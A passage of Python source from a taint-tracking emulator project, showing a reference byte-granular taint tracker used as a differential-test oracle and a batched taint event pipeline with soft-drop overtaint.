        dispatch, and the interpreter fans ``on_insn_exec`` to every
        plugin that *implements* the hook -- wanting or not (a dormant
        second tracker still counts retirements when a co-attached
        armed one forces instrumentation).  So the reduction test runs
        over implementers, not just wanters.
        """
        if not self.needs_insn_effects():
            return ("none", None)
        unit = None
        for plugin in self._plugins:
            hook = plugin.on_insn_exec
            if getattr(hook, "__func__", hook) is Plugin.on_insn_exec:
                continue
            plugin_unit = plugin.block_taint_unit()
            if plugin_unit is None or (unit is not None and plugin_unit is not unit):
                return ("full", None)
            unit = plugin_unit
        if unit is None:
            return ("full", None)
        return ("taint", unit)
