"""The reference taint implementation (pre-fast-path semantics), kept.

This module preserves the original flat byte-map :class:`ShadowMemory`
and the original, allocation-per-instruction :class:`TaintTracker` as
:class:`ReferenceShadowMemory` and :class:`ReferenceTaintTracker`.  They
are **not dead code**: the differential harness
(``tests/taint/test_differential.py``) executes every randomised
program, kernel copy, external write, and FAROS attack scenario against
both this reference and the optimised fast path, asserting bit-identical
shadow state, identical tainted-load observations, and identical
detection verdicts.  The reference is the spec; the fast path is the
implementation under test.

Deliberate differences from :mod:`repro.taint.tracker`:

* no provenance interner -- every union/append calls the plain
  :mod:`repro.taint.provenance` functions and may allocate;
* the shadow map is one flat ``paddr -> provenance`` dict, probed per
  byte, with no page organisation and no all-clean exits;
* no instrumentation gating: :meth:`ReferenceTaintTracker.
  wants_insn_effects` always answers True, so a machine carrying the
  reference instruments every retired instruction.  Attaching the
  reference alongside the fast tracker therefore guarantees both see the
  identical instruction stream.

Keep this module boring.  When propagation semantics change, change the
reference *first*, watch the differential fail, then port the change to
the fast path.
"""

from __future__ import annotations

from typing import Dict, Iterable, List, Optional, Sequence, Tuple

from repro.emulator.plugins import Plugin
from repro.isa.cpu import InstructionEffects
from repro.isa.instructions import IMM_ALU_OPS, Op, REG_ALU_OPS
from repro.isa.memory import PAGE_SHIFT, PAGE_SIZE
from repro.isa.registers import Reg
from repro.taint.pipeline import (
    EV_APPEND,
    EV_CLEAR,
    EV_COPY,
    EV_FREE,
    EV_OVERTAINT,
    EV_OVERTAINT_COPY,
    EV_WRITE,
    FLAG_LAST,
    KIND_MASK,
    RECORD_SLOTS,
    EventBatch,
    TaintPipeline,
    check_protocol,
    deprecated_channel_method,
)
from repro.taint.policy import TaintPolicy
from repro.taint.provenance import EMPTY, append_tag, prov_union, union_all
from repro.taint.shadow import ShadowBank
from repro.taint.tags import Tag, TagStore
from repro.taint.tracker import LoadListener, LoadObservation, TrackerStats

Prov = Tuple[Tag, ...]


class ReferenceShadowMemory:
    """The original sparse byte-granular shadow: one flat dict."""

    def __init__(self) -> None:
        self._mem: Dict[int, Prov] = {}

    def get(self, paddr: int) -> Prov:
        return self._mem.get(paddr, EMPTY)

    def get_bytes(self, paddrs: Iterable[int]) -> Prov:
        """Union of the provenance of several bytes (word loads)."""
        return union_all(self._mem.get(p, EMPTY) for p in paddrs)

    def set(self, paddr: int, prov: Prov) -> None:
        if prov:
            self._mem[paddr] = prov
        else:
            self._mem.pop(paddr, None)

    def set_bytes(self, paddrs: Iterable[int], prov: Prov) -> None:
        if prov:
            for paddr in paddrs:
                self._mem[paddr] = prov
        else:
            for paddr in paddrs:
                self._mem.pop(paddr, None)

    def clear_bytes(self, paddrs: Iterable[int]) -> None:
        for paddr in paddrs:
            self._mem.pop(paddr, None)

    def get_range(self, start: int, length: int) -> Prov:
        return self.get_bytes(range(start, start + length))

    def set_range(self, start: int, length: int, prov: Prov) -> None:
        self.set_bytes(range(start, start + length), prov)

    def clear_range(self, start: int, length: int) -> None:
        self.clear_bytes(range(start, start + length))

    @property
    def tainted_bytes(self) -> int:
        return len(self._mem)

    def items(self):
        return self._mem.items()

    def snapshot(self) -> Dict[int, Prov]:
        return dict(self._mem)


class ReferenceTaintTracker(Plugin):
    """Byte-granular, whole-system DIFT -- the unoptimised original.

    Semantically equivalent to :class:`~repro.taint.tracker.TaintTracker`
    by definition (the differential harness enforces it); structurally it
    is the pre-optimisation code: per-byte dict probes, fresh tuples, no
    gating.
    """

    def __init__(
        self,
        policy: Optional[TaintPolicy] = None,
        tags: Optional[TagStore] = None,
        taint_pipeline: Optional[str] = None,
    ) -> None:
        super().__init__()
        self.policy = policy or TaintPolicy()
        self.tags = tags or TagStore()
        self.shadow = ReferenceShadowMemory()
        self.banks = ShadowBank()
        self.stats = TrackerStats()
        self._load_listeners: List[LoadListener] = []
        self._pending_control: Dict[int, List] = {}
        #: Same transport as the fast tracker: the oracle consumes the
        #: identical versioned event stream (byte-at-a-time), so the
        #: differential matrix covers every pipeline mode end to end.
        self.pipeline = TaintPipeline(
            self,
            mode=taint_pipeline,
            max_queue_depth=self.policy.max_queue_depth,
        )

    # ------------------------------------------------------------------
    # wiring (same surface as the fast tracker)
    # ------------------------------------------------------------------

    def add_load_listener(self, listener: LoadListener) -> None:
        self._load_listeners.append(listener)

    # ------------------------------------------------------------------
    # the TaintSink protocol: per-byte event application (the spec)
    # ------------------------------------------------------------------

    def resolve_actor_tag(self, actor) -> Optional[Tag]:
        if actor is None or not self.policy.process_tags_on_access:
            return None
        return self.tags.process_tag(actor.cr3)

    def consume(self, batch: EventBatch) -> None:
        """Apply one event batch byte-at-a-time -- the semantic spec the
        fast tracker's bulk ``consume`` is held bit-identical to."""
        check_protocol(batch)
        recs = batch.records
        refs = batch.refs
        shadow = self.shadow
        stats = self.stats
        i, n = 0, len(recs)
        while i < n:
            code = recs[i]
            kind = code & KIND_MASK
            a = recs[i + 1]
            b = recs[i + 2]
            if kind == EV_APPEND or kind == EV_OVERTAINT:
                tag = refs[recs[i + 5]]
                for paddr in range(a, a + b):
                    shadow.set(paddr, append_tag(shadow.get(paddr), tag))
            elif kind == EV_COPY:
                length = recs[i + 3]
                ref = recs[i + 5]
                actor_tag = refs[ref] if ref >= 0 else None
                for k in range(length):
                    prov = shadow.get(b + k)
                    if prov and actor_tag is not None:
                        prov = append_tag(prov, actor_tag)
                        stats.process_tag_appends += 1
                    shadow.set(a + k, prov)
                if code & FLAG_LAST:
                    stats.kernel_copies += 1
            elif kind == EV_WRITE:
                shadow.clear_range(a, b)
                if code & FLAG_LAST:
                    stats.external_writes += 1
            elif kind == EV_CLEAR:
                shadow.clear_range(a, b)
            elif kind == EV_FREE:
                for frame in range(a, a + b):
                    shadow.clear_range(frame << PAGE_SHIFT, PAGE_SIZE)
            elif kind == EV_OVERTAINT_COPY:
                prov = shadow.get_range(recs[i + 3], recs[i + 4])
                tags = list(prov)
                ref = recs[i + 5]
                if ref >= 0:
                    tags.append(refs[ref])
                for tag in tags:
                    for paddr in range(a, a + b):
                        shadow.set(paddr, append_tag(shadow.get(paddr), tag))
            else:
                raise ValueError(f"unknown taint event kind {kind}")
            i += RECORD_SLOTS

    # ------------------------------------------------------------------
    # deprecated direct-call shims (same surface as the fast tracker)
    # ------------------------------------------------------------------

    @deprecated_channel_method("TaintPipeline.taint")
    def taint_range(self, paddrs: Sequence[int], tag: Tag) -> None:
        self.pipeline.taint(paddrs, tag)
        self.pipeline.sync()

    def prov_at(self, paddr: int) -> Prov:
        self.pipeline.sync()
        return self.shadow.get(paddr)

    def prov_of_range(self, paddrs: Sequence[int]) -> Prov:
        self.pipeline.sync()
        return self.shadow.get_bytes(paddrs)

    @deprecated_channel_method("TaintPipeline.clear")
    def clear_range(self, paddrs: Sequence[int]) -> None:
        self.pipeline.clear(paddrs)
        self.pipeline.sync()

    @deprecated_channel_method("TaintPipeline.phys_write")
    def on_phys_write(self, machine, paddrs, source: str) -> None:
        self.pipeline.phys_write(paddrs, source)
        self.pipeline.sync()

    @deprecated_channel_method("TaintPipeline.phys_copy")
    def on_phys_copy(self, machine, dst_paddrs, src_paddrs, actor=None) -> None:
        self.pipeline.phys_copy(dst_paddrs, src_paddrs, self.resolve_actor_tag(actor))
        self.pipeline.sync()

    @deprecated_channel_method("TaintPipeline.frames_freed")
    def on_frames_freed(self, machine, frames) -> None:
        self.pipeline.frames_freed(frames)
        self.pipeline.sync()

    def on_process_exit(self, machine, process, status) -> None:
        for thread in process.threads:
            self.banks.drop_thread(thread.tid)
            self._pending_control.pop(thread.tid, None)

    # ------------------------------------------------------------------
    # the per-instruction path: always the full propagation
    # ------------------------------------------------------------------

    def wants_insn_effects(self) -> bool:
        # The reference never gates: it is the always-slow spec, and
        # forcing instrumentation keeps co-attached differential runs on
        # the identical instruction stream.
        return True

    def on_insn_exec(self, machine, thread, fx: InstructionEffects) -> None:
        self.stats.instructions += 1
        self.stats.slow_retirements += 1
        policy = self.policy
        shadow = self.shadow
        bank = self.banks.for_thread(thread.tid)

        proc_tag: Optional[Tag] = None
        if policy.process_tags_on_access:
            proc_tag = self.tags.process_tag(thread.process.cr3)

        insn_prov: Prov = EMPTY
        for paddr in fx.fetch_paddrs:
            prov = shadow.get(paddr)
            if prov:
                if proc_tag is not None:
                    new = append_tag(prov, proc_tag)
                    if new is not prov:
                        shadow.set(paddr, new)
                        self.stats.process_tag_appends += 1
                        prov = new
                insn_prov = prov_union(insn_prov, prov)

        read_provs: List[Prov] = []
        for access in fx.reads:
            prov = shadow.get_bytes(access.paddrs)
            if prov and proc_tag is not None:
                for paddr in access.paddrs:
                    byte_prov = shadow.get(paddr)
                    if byte_prov:
                        new = append_tag(byte_prov, proc_tag)
                        if new is not byte_prov:
                            shadow.set(paddr, new)
                            self.stats.process_tag_appends += 1
                prov = append_tag(prov, proc_tag)
            read_provs.append(prov)

        if self._load_listeners and fx.reads:
            observation = LoadObservation(
                thread=thread,
                fx=fx,
                insn_prov=insn_prov,
                reads=list(zip(fx.reads, read_provs)),
            )
            for listener in self._load_listeners:
                listener(machine, observation)

        self._propagate(fx, bank, read_provs, proc_tag, thread.tid)

        pending = self._pending_control.get(thread.tid)
        if pending is not None:
            pending[1] -= 1
            if pending[1] <= 0:
                del self._pending_control[thread.tid]
        if policy.track_control_deps and fx.flags_read and bank.flags:
            self._pending_control[thread.tid] = [bank.flags, policy.control_dep_window]

    def _propagate(
        self,
        fx: InstructionEffects,
        bank,
        read_provs: List[Prov],
        proc_tag: Optional[Tag],
        tid: int,
    ) -> None:
        insn = fx.insn
        op = insn.op
        policy = self.policy

        if op is Op.MOV:
            self._write_reg(bank, insn.rd, bank.get(insn.rs1), tid)
        elif op is Op.MOVI:
            self._write_reg(bank, insn.rd, EMPTY, tid)
        elif op in (Op.LD, Op.LDB, Op.POP):
            prov = read_provs[0] if read_provs else EMPTY
            if policy.track_address_deps and op is not Op.POP:
                prov = prov_union(prov, bank.get(insn.rs1))
            self._write_reg(bank, insn.rd, prov, tid)
        elif op in (Op.ST, Op.STB, Op.PUSH):
            src_reg = insn.rs1 if op is Op.PUSH else insn.rs2
            prov = bank.get(src_reg)
            if policy.track_address_deps and op is not Op.PUSH:
                prov = prov_union(prov, bank.get(insn.rs1))
            prov = self._with_control(tid, prov)
            if prov and proc_tag is not None:
                prov = append_tag(prov, proc_tag)
            for access in fx.writes:
                self.shadow.set_bytes(access.paddrs, prov)
        elif op in REG_ALU_OPS:
            if insn.rs1 == insn.rs2 and op in (Op.XOR, Op.SUB):
                self._write_reg(bank, insn.rd, EMPTY, tid)
            else:
                self._write_reg(
                    bank, insn.rd, prov_union(bank.get(insn.rs1), bank.get(insn.rs2)), tid
                )
        elif op in IMM_ALU_OPS:
            self._write_reg(bank, insn.rd, bank.get(insn.rs1), tid)
        elif op is Op.CMP:
            bank.flags = prov_union(bank.get(insn.rs1), bank.get(insn.rs2))
        elif op is Op.CMPI:
            bank.flags = bank.get(insn.rs1)
        elif op in (Op.CALL, Op.CALLR):
            bank.set(Reg.LR, EMPTY)

    def _write_reg(self, bank, reg: Reg, prov: Prov, tid: int) -> None:
        bank.set(reg, self._with_control(tid, prov))

    def _with_control(self, tid: int, prov: Prov) -> Prov:
        if not self.policy.track_control_deps:
            return prov
        pending = self._pending_control.get(tid)
        if pending is None:
            return prov
        return prov_union(prov, pending[0])
