"""The decoupled taint pipeline (the DIFT-coprocessor architecture).

The hardware-assisted DIFT line (the ARM coprocessor papers and the gem5
``dift_soft_drop`` monitoring-core model) separates *event production*
from *taint consumption*: the main core streams compact events into a
bounded FIFO and a monitor consumes them asynchronously, degrading
gracefully -- dropping events into conservative coarse-grained taint --
when it falls behind.  This module reproduces that shape for the
machine's **channel events** (taint seeding, external writes, kernel
copies, frame frees): the events that used to be direct method calls on
the tracker now travel as an array-packed batched stream through a
:class:`TaintPipeline` into any :class:`TaintSink`.

Protocol
--------

A :class:`TaintEvent` is one channel operation.  On the wire it is one
or more fixed-width records (``RECORD_SLOTS`` machine words in an
``array('q')``) -- one record per *contiguous physical run*, reusing the
``contiguous_runs`` bulk decomposition, with ``Tag`` side references in
a per-batch ``refs`` table.  The final record of an event carries
``FLAG_LAST`` so consumers bump per-event statistics (``kernel_copies``,
``external_writes``) and run per-event budget checks exactly once, in
the same places the direct-call API did.  A batch is versioned
(:data:`PROTOCOL_VERSION`); consumers reject batches they do not speak.

Consumers implement ``consume(batch)`` -- the :class:`TaintSink`
protocol -- and both the fast :class:`~repro.taint.tracker.TaintTracker`
and the byte-at-a-time reference oracle implement it, so the
differential harness holds every transport mode bit-identical.

Transport modes
---------------

* ``inline`` (default): each event is consumed at emission, on the
  emitting thread.  Exactly the pre-pipeline behaviour, factored
  through the shared protocol.
* ``batched``: events queue in a bounded ring and drain at the
  machine's natural consistency points -- slice start and post-syscall
  re-planning (via :meth:`TaintPipeline.wants_insn_effects`), machine
  stop, provenance queries, and report generation.  Because every
  observation of shadow state sits behind one of those barriers,
  drop-free batched runs are bit-identical to inline runs.
* ``worker``: batched, plus every drained batch is shipped over a
  fork/pipe channel (the triage engine's picklable-channel idiom) to a
  per-guest worker process that applies it to a replica sink -- the
  asynchronous DIFT monitor.  The local sink remains authoritative for
  synchronous queries (detection needs the shadow in-process); the
  worker demonstrates consumption decoupling and is cross-checked at
  :meth:`TaintPipeline.close`.  With ``offload=True`` local consumption
  is skipped entirely and the worker is the *only* consumer -- the
  producer-side cost of streaming is then just packing words, which is
  what the throughput benchmark gates.

Soft drop
---------

When the ring is full (``TaintPolicy.max_queue_depth`` packed records),
the *oldest* queued events -- the ones at the consumption point, so
stream order is preserved -- are collapsed to **page-granular
overtaint** and applied immediately:

* an APPEND degrades to appending its tag to every spanned 4 KiB shadow
  page (a superset of the precise bytes);
* CLEAR / WRITE / FREE degrade to *nothing* -- stale taint is retained,
  which can only over-report;
* a COPY degrades to appending the union of the spanned source pages'
  provenance (plus the actor tag) to the spanned destination pages --
  a superset of any per-byte result, without ever clearing.

Overtainting is therefore conservative: a dropped range never
under-reports, so detections cannot be missed (false positives may
appear; the run is flagged degraded via the machine's fault plumbing
and the loss is visible in the ``taint.pipeline.*`` gauges).  Dropped
pages are queued for revalidation: the next confluence check forces
their flag-cache summary words to be recomputed before the detector
trusts a pre-check on them.
"""

from __future__ import annotations

import warnings
from array import array
from collections import deque
from dataclasses import dataclass, field
from typing import List, Optional, Sequence, Tuple

from repro.emulator.plugins import Plugin
from repro.faults.errors import EmulatorFault
from repro.isa.memory import PAGE_SHIFT, PAGE_SIZE, contiguous_runs
from repro.taint.shadow import SHADOW_PAGE_SHIFT
from repro.taint.tags import Tag

#: Version stamp carried by every batch; consumers must match exactly.
PROTOCOL_VERSION = 1

#: Machine words per packed record.
RECORD_SLOTS = 6

# Event kinds (low byte of a record's code word).
EV_APPEND = 1          #: append ``ref`` tag to [a, a+b)
EV_CLEAR = 2           #: clear [a, a+b)
EV_WRITE = 3           #: external write: clear [a, a+b), count on LAST
EV_COPY = 4            #: copy [b, b+c) -> [a, a+c) with optional actor ``ref``
EV_FREE = 5            #: frames [a, a+b) freed: clear their pages
EV_OVERTAINT = 6       #: soft-drop residue: page-granular append of ``ref``
EV_OVERTAINT_COPY = 7  #: soft-drop residue: page-granular copy union

KIND_MASK = 0xFF
FLAG_LAST = 0x100

KIND_NAMES = {
    EV_APPEND: "append",
    EV_CLEAR: "clear",
    EV_WRITE: "write",
    EV_COPY: "copy",
    EV_FREE: "free",
    EV_OVERTAINT: "overtaint",
    EV_OVERTAINT_COPY: "overtaint-copy",
}

PIPELINE_MODES = ("inline", "batched", "worker")

_SHADOW_PAGE_SIZE = 1 << SHADOW_PAGE_SHIFT


@dataclass(frozen=True)
class TaintEvent:
    """One decoded channel-event record (the analyst/test-facing view).

    The packed wire format is the ``array('q')`` records; this dataclass
    is what :meth:`EventBatch.events` decodes them into for round-trip
    tests and debugging.  ``last`` marks the final record of a
    multi-run event.
    """

    kind: int
    a: int = 0
    b: int = 0
    c: int = 0
    d: int = 0
    ref: Optional[Tag] = None
    last: bool = True

    @property
    def kind_name(self) -> str:
        return KIND_NAMES.get(self.kind, f"?{self.kind}")


class EventBatch:
    """One drained batch: packed records plus the tag side table."""

    __slots__ = ("records", "refs", "version")

    def __init__(self, records: array, refs: List[Optional[Tag]], version: int = PROTOCOL_VERSION) -> None:
        self.records = records
        self.refs = refs
        self.version = version

    def __len__(self) -> int:
        return len(self.records) // RECORD_SLOTS

    def events(self) -> List[TaintEvent]:
        """Decode the packed records (tests, debugging -- not the hot path)."""
        recs, refs = self.records, self.refs
        out: List[TaintEvent] = []
        for i in range(0, len(recs), RECORD_SLOTS):
            code = recs[i]
            r = recs[i + 5]
            out.append(
                TaintEvent(
                    kind=code & KIND_MASK,
                    a=recs[i + 1],
                    b=recs[i + 2],
                    c=recs[i + 3],
                    d=recs[i + 4],
                    ref=refs[r] if r >= 0 else None,
                    last=bool(code & FLAG_LAST),
                )
            )
        return out


class TaintSink:
    """The consumer protocol: anything that can apply an event batch.

    Both taint trackers implement this; the pipeline only ever talks to
    its sink through :meth:`consume` (plus the optional
    ``resolve_actor_tag`` helper for copy-event tag minting, which must
    happen at *emit* time to preserve tag-store mint order).
    """

    def consume(self, batch: EventBatch) -> None:  # pragma: no cover - protocol
        raise NotImplementedError


def check_protocol(batch: EventBatch) -> None:
    """Reject batches from a different protocol generation."""
    if batch.version != PROTOCOL_VERSION:
        raise ValueError(
            f"taint event batch speaks protocol v{batch.version}, "
            f"this consumer speaks v{PROTOCOL_VERSION}"
        )


class TaintPipeline(Plugin):
    """The transport between the machine's channel events and a sink.

    Registers as an emulator plugin *in front of* its owning tracker
    (:meth:`~repro.emulator.plugins.PluginManager.register` inserts it
    automatically), receives the machine's physical-channel hooks, and
    either consumes immediately (``inline``) or queues and drains at the
    consistency points described in the module docstring.
    """

    #: Duck-type marker so the plugin manager can auto-register the
    #: pipeline without importing this module (cycle avoidance).
    is_taint_pipeline = True

    def __init__(
        self,
        sink: Optional[TaintSink],
        mode: Optional[str] = None,
        max_queue_depth: Optional[int] = None,
        offload: bool = False,
    ) -> None:
        super().__init__()
        if mode is not None and mode not in PIPELINE_MODES:
            raise ValueError(
                f"unknown taint pipeline mode {mode!r}; expected one of {PIPELINE_MODES}"
            )
        if offload and sink is not None:
            raise ValueError("offload pipelines must not carry a local sink")
        self.sink = sink
        self._mode = mode
        self._mode_explicit = mode is not None
        if max_queue_depth is None:
            policy = getattr(sink, "policy", None)
            max_queue_depth = getattr(policy, "max_queue_depth", None)
        self.max_queue_depth = max_queue_depth
        self.offload = offload
        self._machine = None
        self._queue: deque = deque()  # of (array('q') records, [refs]) per event
        self._pending_records = 0
        self._fault_noted = False
        # -- gauges ----------------------------------------------------
        self.emitted_events = 0
        self.emitted_records = 0
        self.consumed_records = 0
        self.consumed_batches = 0
        self.drops = 0              # events collapsed by soft-drop
        self.dropped_records = 0
        self.revalidations = 0
        self._overtainted_pages: set = set()
        self._pending_revalidation: set = set()
        # -- worker machinery (lazy) ----------------------------------
        self._worker = None
        self._shipped_records = 0
        self.worker_summary: Optional[dict] = None
        self.worker_error: Optional[str] = None

    # ------------------------------------------------------------------
    # configuration
    # ------------------------------------------------------------------

    @property
    def mode(self) -> str:
        return self._mode or "inline"

    def set_mode(self, mode: str) -> None:
        """Switch transport mode (drains any queued events first)."""
        if mode not in PIPELINE_MODES:
            raise ValueError(
                f"unknown taint pipeline mode {mode!r}; expected one of {PIPELINE_MODES}"
            )
        if self._queue:
            self.drain()
        self._mode = mode
        self._mode_explicit = True

    @property
    def depth(self) -> int:
        """Packed records currently queued (the FIFO occupancy gauge)."""
        return self._pending_records

    @property
    def overtainted_pages(self) -> int:
        return len(self._overtainted_pages)

    @property
    def lag_records(self) -> int:
        """Records shipped to the worker but not yet consumed there."""
        worker = self._worker
        if worker is None:
            return 0
        return max(0, self._shipped_records - worker.consumed())

    # ------------------------------------------------------------------
    # emission: the TaintEvent protocol verbs
    # ------------------------------------------------------------------

    def taint(self, paddrs: Sequence[int], tag: Tag) -> None:
        """Append *tag* to every byte of *paddrs* (taint seeding)."""
        recs = array("q")
        refs: List[Optional[Tag]] = [tag]
        for start, length in contiguous_runs(paddrs):
            recs.extend((EV_APPEND, start, length, 0, 0, 0))
        if recs:
            recs[-RECORD_SLOTS] |= FLAG_LAST
            self._emit(recs, refs)

    def clear(self, paddrs: Sequence[int]) -> None:
        """Drop the provenance of every byte of *paddrs*."""
        recs = array("q")
        for start, length in contiguous_runs(paddrs):
            recs.extend((EV_CLEAR, start, length, 0, 0, -1))
        if recs:
            recs[-RECORD_SLOTS] |= FLAG_LAST
            self._emit(recs, [])

    def phys_write(self, paddrs: Sequence[int], source: str = "") -> None:
        """External data overwrote *paddrs*: clear, count one write."""
        recs = array("q")
        for start, length in contiguous_runs(paddrs):
            recs.extend((EV_WRITE, start, length, 0, 0, -1))
        if recs:
            recs[-RECORD_SLOTS] |= FLAG_LAST
            self._emit(recs, [])

    def phys_copy(
        self,
        dst_paddrs: Sequence[int],
        src_paddrs: Sequence[int],
        actor_tag: Optional[Tag] = None,
    ) -> None:
        """Kernel byte move ``dst[i] <- src[i]`` with an optional actor tag.

        The actor's process tag must be resolved by the caller (at emit
        time): tag indices are assigned in mint order, and deferring the
        mint to consumption would reorder the tag store under batching.
        """
        recs = array("q")
        refs: List[Optional[Tag]] = []
        ref = -1
        if actor_tag is not None:
            refs.append(actor_tag)
            ref = 0
        i, n = 0, len(dst_paddrs)
        while i < n:
            dst, src = dst_paddrs[i], src_paddrs[i]
            j = i + 1
            while j < n and dst_paddrs[j] == dst + (j - i) and src_paddrs[j] == src + (j - i):
                j += 1
            recs.extend((EV_COPY, dst, src, j - i, 0, ref))
            i = j
        if recs:
            recs[-RECORD_SLOTS] |= FLAG_LAST
            self._emit(recs, refs)

    def frames_freed(self, frames: Sequence[int]) -> None:
        """Physical *frames* returned to the allocator: shadow drops."""
        recs = array("q")
        for start, length in contiguous_runs(frames):
            recs.extend((EV_FREE, start, length, 0, 0, -1))
        if recs:
            recs[-RECORD_SLOTS] |= FLAG_LAST
            self._emit(recs, [])

    # ------------------------------------------------------------------
    # queueing, backpressure, dispatch
    # ------------------------------------------------------------------

    def _emit(self, recs: array, refs: List[Optional[Tag]]) -> None:
        n = len(recs) // RECORD_SLOTS
        self.emitted_events += 1
        self.emitted_records += n
        if self.mode == "inline":
            self._dispatch(recs, refs)
            return
        maxd = self.max_queue_depth
        if maxd is not None:
            queue = self._queue
            while queue and self._pending_records + n > maxd:
                self._drop_oldest()
            if not queue and n > maxd:
                # Oversized event on an empty ring: the FIFO front *is*
                # the current stream position, so consuming it
                # synchronously is exact -- no degradation needed.
                self._dispatch(recs, refs)
                return
        self._queue.append((recs, refs))
        self._pending_records += n

    def _dispatch(self, recs: array, refs: List[Optional[Tag]]) -> None:
        batch = EventBatch(recs, refs)
        if self.mode == "worker":
            self._ship(batch)
        sink = self.sink
        if sink is not None and not self.offload:
            sink.consume(batch)
            self.consumed_records += len(recs) // RECORD_SLOTS
            self.consumed_batches += 1

    def drain(self) -> None:
        """Consume every queued event, in FIFO order, as one batch."""
        queue = self._queue
        if not queue:
            return
        if len(queue) == 1:
            recs, refs = queue.popleft()
        else:
            recs = array("q")
            refs = []
            for event_recs, event_refs in queue:
                offset = len(refs)
                if offset:
                    for i in range(5, len(event_recs), RECORD_SLOTS):
                        if event_recs[i] >= 0:
                            event_recs[i] += offset
                recs.extend(event_recs)
                refs.extend(event_refs)
            queue.clear()
        self._pending_records = 0
        try:
            self._dispatch(recs, refs)
        except EmulatorFault:
            # A budget watchdog tripped mid-batch.  The machine turns
            # the raise into a FaultRecord and the run ends; discard
            # whatever this batch had left so later sync barriers
            # (machine stop, report generation) do not re-raise into
            # paths that must stay fault-free.
            queue.clear()
            self._pending_records = 0
            raise

    def sync(self) -> None:
        """Synchronization barrier: after this, the sink is current."""
        if self._queue:
            self.drain()

    # -- soft drop ------------------------------------------------------

    def _drop_oldest(self) -> None:
        recs, refs = self._queue.popleft()
        n = len(recs) // RECORD_SLOTS
        self._pending_records -= n
        self.drops += 1
        self.dropped_records += n
        if not self._fault_noted:
            self._fault_noted = True
            machine = self._machine
            if machine is not None:
                machine.note_injected_fault(
                    "TaintPipelineOverflow",
                    f"taint event ring exceeded depth {self.max_queue_depth}; "
                    "soft-drop degrading to page-granular overtaint",
                    journal=False,
                )
        ot_recs, ot_refs = self._degrade(recs, refs)
        if ot_recs:
            self._dispatch(ot_recs, ot_refs)

    def _degrade(self, recs: array, refs: List[Optional[Tag]]) -> Tuple[array, List[Optional[Tag]]]:
        """Collapse one event's records to page-granular overtaint."""
        shift = SHADOW_PAGE_SHIFT
        size = _SHADOW_PAGE_SIZE
        out = array("q")
        out_refs: List[Optional[Tag]] = []
        overtainted = self._overtainted_pages
        pending = self._pending_revalidation
        for i in range(0, len(recs), RECORD_SLOTS):
            kind = recs[i] & KIND_MASK
            a, b = recs[i + 1], recs[i + 2]
            if kind == EV_APPEND:
                ref = recs[i + 5]
                tag = refs[ref] if ref >= 0 else None
                out_refs.append(tag)
                tag_ref = len(out_refs) - 1
                for page in range(a >> shift, ((a + b - 1) >> shift) + 1):
                    out.extend((EV_OVERTAINT, page << shift, size, 0, 0, tag_ref))
                    overtainted.add(page)
                    pending.add(page)
            elif kind == EV_COPY:
                length = recs[i + 3]
                ref = recs[i + 5]
                tag_ref = -1
                if ref >= 0:
                    out_refs.append(refs[ref])
                    tag_ref = len(out_refs) - 1
                dst_page = (a >> shift) << shift
                dst_span = ((((a + length - 1) >> shift) + 1) << shift) - dst_page
                src_page = (b >> shift) << shift
                src_span = ((((b + length - 1) >> shift) + 1) << shift) - src_page
                out.extend((EV_OVERTAINT_COPY, dst_page, dst_span, src_page, src_span, tag_ref))
                for page in range(a >> shift, ((a + length - 1) >> shift) + 1):
                    overtainted.add(page)
                    pending.add(page)
            # EV_CLEAR / EV_WRITE / EV_FREE degrade to nothing: keeping
            # stale taint can only over-report, never under-report.
        if len(out):
            out[-RECORD_SLOTS] |= FLAG_LAST
        return out, out_refs

    def revalidate_dropped(self) -> int:
        """Recompute flag-cache summaries for soft-dropped pages.

        Called from the detector's confluence path: pages whose precise
        event stream was degraded carry conservative (possibly stale)
        state, so their per-page summary words are forced to recompute
        before any pre-check trusts them.  Returns the number of pages
        revalidated.
        """
        pending = self._pending_revalidation
        if not pending:
            return 0
        shadow = getattr(self.sink, "shadow", None)
        if shadow is not None and hasattr(shadow, "page_summary"):
            for page in sorted(pending):
                shadow.page_summary(page)
        count = len(pending)
        self.revalidations += count
        pending.clear()
        return count

    @property
    def needs_revalidation(self) -> bool:
        return bool(self._pending_revalidation)

    def pre_confluence(self) -> None:
        """The detector-side barrier: drain, then revalidate drops."""
        if self._queue:
            self.drain()
        if self._pending_revalidation:
            self.revalidate_dropped()

    # ------------------------------------------------------------------
    # plugin hooks: the machine side of the pipeline
    # ------------------------------------------------------------------

    def on_machine_start(self, machine) -> None:
        self._machine = machine
        if not self._mode_explicit:
            configured = getattr(machine.config, "taint_pipeline", None)
            if configured:
                self.set_mode(configured)
                self._mode_explicit = False

    def on_machine_stop(self, machine) -> None:
        try:
            self.sync()
        except EmulatorFault as fault:
            # The run loop already returned; record the trip through the
            # non-terminal fault plumbing so the report degrades instead
            # of a host exception escaping machine.run().
            machine.note_injected_fault(type(fault).__name__, str(fault), journal=False)

    def on_phys_write(self, machine, paddrs, source: str) -> None:
        self.phys_write(paddrs, source)

    def on_phys_copy(self, machine, dst_paddrs, src_paddrs, actor=None) -> None:
        actor_tag = None
        resolve = getattr(self.sink, "resolve_actor_tag", None)
        if resolve is not None:
            actor_tag = resolve(actor)
        self.phys_copy(dst_paddrs, src_paddrs, actor_tag)

    def on_frames_freed(self, machine, frames) -> None:
        self.frames_freed(frames)

    def wants_insn_effects(self) -> bool:
        """Never wants effects itself -- but the machine's ask *is* the
        slice/post-syscall consistency point, so drain here.  The plugin
        manager registers the pipeline ahead of its owning tracker, so
        by the time the tracker's own gate probes shadow state every
        queued seed has been applied (no under-instrumented slices)."""
        if self._queue:
            self.drain()
        return False

    # ------------------------------------------------------------------
    # the worker consumer
    # ------------------------------------------------------------------

    def _ship(self, batch: EventBatch) -> None:
        worker = self._worker
        if worker is None:
            if self.worker_error is not None:
                return
            try:
                worker = self._worker = _PipelineWorker()
            except (ImportError, OSError, ValueError) as exc:
                self.worker_error = f"worker unavailable: {exc}"
                return
        try:
            worker.send(batch)
            self._shipped_records += len(batch)
        except (OSError, BrokenPipeError) as exc:
            self.worker_error = f"worker channel broke: {exc}"

    def close(self, collect: bool = True) -> Optional[dict]:
        """Flush, stop the worker, and cross-check its consumption.

        Returns the worker's summary (consumed-record count, replica
        tracker counters, and shadow snapshot) in worker mode, else
        None.  A consumed-count mismatch is recorded in
        :attr:`worker_error` rather than raised -- callers that require
        strict agreement (the benchmark) assert on the summary.
        """
        self.sync()
        worker = self._worker
        if worker is None:
            return None
        self._worker = None
        summary = worker.finish(collect=collect)
        shipped = self._shipped_records
        # A later emission would lazily fork a fresh worker whose count
